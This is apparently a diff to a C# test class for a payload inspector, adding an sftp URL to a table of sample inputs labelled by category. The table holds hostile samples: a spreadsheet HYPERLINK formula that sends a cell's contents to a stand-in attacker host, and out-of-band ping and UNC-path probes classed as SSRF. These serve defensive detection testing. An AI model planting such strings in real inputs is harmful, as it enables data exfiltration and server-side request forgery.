@@ -360,6 +360,7 @@ public sealed class PayloadInspectorTests
         { "\r=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", InspectionCategory.Code },
         { "ping -c 1 a9x8.oastify.com", InspectionCategory.Ssrf },
         { "\\\\q1w2.oast.pro\\share\\x", InspectionCategory.Ssrf },
+        { "sftp://files.example.net:2222/", InspectionCategory.Ssrf },
     };
 
     [Theory]
